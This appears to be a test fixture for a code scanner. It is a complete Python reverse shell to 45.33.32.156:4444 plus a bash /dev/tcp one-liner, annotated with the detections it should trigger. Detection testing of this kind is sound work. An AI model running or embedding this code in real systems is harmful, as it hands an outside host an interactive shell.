# ruff: noqa
# fmt: off
"""A classic Python reverse shell."""
import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("45.33.32.156", 4444))  # expect: raw-ip-url
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])  # expect: reverse-shell
os.system("bash -i >& /dev/tcp/45.33.32.156/4444 0>&1")  # expect: reverse-shell
